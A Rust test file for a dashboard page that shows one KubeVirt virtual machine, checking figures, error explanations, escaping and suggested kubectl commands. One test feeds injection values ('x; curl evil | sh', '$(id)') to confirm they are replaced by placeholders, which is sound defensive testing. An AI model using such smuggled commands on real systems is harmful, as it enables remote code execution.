//! One VM's page.

use super::*;
use model::{figure::Missing, vm::Status};

#[test]
fn a_vm_page_shows_figures_volumes_networks_and_commands() {
    let page = render("/vms/payments/db-postgres-0", snapshot(sample::vms(), sample::sources()));
    let text = page.text();
    assert_eq!(page.status, 200);
    for expected in [
        "25.7 % 2.06 of 8 vCPU",
        "metrics.k8s.io, 15 s window , sampled 14 s ago",
        "· 3 of 4 volumes",
        "2026-03-04 09:12 UTC",
        "virt-launcher-db-postgres-0-vm-x7k2p",
        "Volume data : a block volume",
        "install qemu-guest-agent",
        "kubectl -n payments top pod virt-launcher-db-postgres-0-vm-x7k2p --containers",
        "02:8e:4f:11:0c:7a",
        "longhorn-2r",
    ] {
        assert!(text.contains(expected), "{expected} is not in {text}");
    }
}

#[test]
fn a_vm_in_error_says_why_and_how_to_check() {
    let all = || snapshot(sample::vms(), sample::sources());
    let card = render("/?q=gpu", all());
    assert!(card.card("ci/gpu-trainer").contains("href=\"/vms/ci/gpu-trainer#why\""));
    let text = text(render("/vms/ci/gpu-trainer", all()).part("id=\"why\"", "</section>"));
    assert!(text.contains("CPU, memory, disk : not running."), "{text}");
    assert!(
        text.contains("4 Insufficient nvidia.com/gpu.") && text.contains("kubectl -n ci describe"),
        "{text}"
    );
    let stopped = render("/vms/shop/frontend-canary", all());
    assert!(!stopped.html.contains("id=\"why\""), "a stopped VM needs no fix");
}

#[test]
fn a_conflict_between_objects_is_escaped_text() {
    let mut vms = sample::vms();
    vms[0].conflict = Some(Box::new("names as its owner the Wukong <b>".into()));
    let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
    assert!(page.html.contains("names as its owner the Wukong &lt;b&gt;"), "{}", page.html);
}

#[test]
fn commands_contain_only_valid_names() {
    let mut vms = sample::vms();
    vms[0].vm_name = "x; curl evil | sh".into();
    vms[0].summary.node = "$(id)".into();
    let text = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources())).text();
    assert!(text.contains("get virtualmachineinstance NAME -o yaml"), "{text}");
    assert!(text.contains("/api/v1/nodes/NODE/proxy"), "{text}");
}

#[test]
fn a_paused_guest_says_why_and_how_to_fix_it() {
    let mut vms = sample::vms();
    let (message, fix) = ("VMI was paused, IO error", "Look at its disks: kubectl -n a describe vmi b");
    vms[0].summary.kubevirt_status = "Paused".into();
    vms[0].summary.fault = Some(Box::new(message.into()));
    let (reason, detail, fix) = (Reason::Paused, message.into(), fix.into());
    vms[0].failure = Some(Box::new(Missing { detail, fix, ..Missing::from(reason) }));
    for url in ["/", "/vms/payments/api-gateway-01"] {
        let text = render(url, snapshot(vms.clone(), sample::sources())).text();
        assert!(text.contains("KubeVirt has paused the guest: VMI was paused, IO error."), "{url}: {text}");
        assert!(!text.contains("KubeVirt status: Paused"), "it is said once: {text}");
    }
    let text = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources())).text();
    assert!(
        text.contains("Why is it paused?") && text.contains("Guest : paused because of an error."),
        "{text}"
    );
    assert!(text.contains("kubectl -n a describe vmi b"), "{text}");
}

#[test]
fn a_stopped_vm_says_why_its_size_is_unknown() {
    let mut vms = sample::vms();
    let vm = vms.iter_mut().find(|vm| vm.summary.status == Status::Stopped).unwrap();
    (vm.summary.cpu, vm.summary.memory) = (None, None);
    let detail = "its instance type u1 cannot be read".into();
    vm.allocation_gap = Some(Box::new(Missing { detail, ..Missing::from(Reason::NoAllocation) }));
    let url = format!("/vms/{}/{}", vm.summary.namespace, vm.summary.name);
    let text = render(&url, snapshot(vms, sample::sources())).text();
    assert!(text.contains("vCPU, memory : its allocation cannot be read."), "{text}");
    assert!(text.contains("its instance type u1 cannot be read"), "{text}");
}

#[test]
fn a_nearly_full_guest_file_system_is_highlighted() {
    let mut vms = sample::vms();
    let fs = |mount_point: &str, used, total| model::vm::GuestFilesystem {
        mount_point: mount_point.into(),
        used,
        total,
        ..Default::default()
    };
    vms[0].guest.filesystems = [
        fs("/", Some(95 << 30), Some(100 << 30)),
        fs("/srv", Some(1 << 30), Some(100 << 30)),
        fs("/x", None, None),
    ]
    .into();
    vms[0].guest.at = Some(NOW);
    vms[0].guest.filesystems_left_out = 7;
    let page = render("/vms/payments/api-gateway-01", snapshot(vms, sample::sources()));
    let (hot, normal) = (page.part(">/<", "</tr>"), page.part(">/srv<", "</tr>"));
    assert!(hot.contains("num hot") && text(hot).contains("95 / 100 Gi 95 %"), "{hot}");
    assert!(!normal.contains("hot") && text(normal).contains("1 / 100 Gi 1 %"), "{normal}");
    assert!(!text(page.part(">/x<", "</tr>")).contains('%'));
    assert!(page.text().contains("7 more file systems are not listed. They are counted."), "{}", page.text());
}

#[test]
fn an_expired_figure_keeps_its_last_value_and_age() {
    let page = render("/vms/legacy/frozen-erp", snapshot(sample::vms(), sample::sources()));
    let text = page.text();
    assert!(text.contains("Unknown: the last sample is too old."), "{text}");
    assert!(text.contains("Last known: 7.00 of 8 Gi, 87 %, 6 min ago."), "{text}");
}
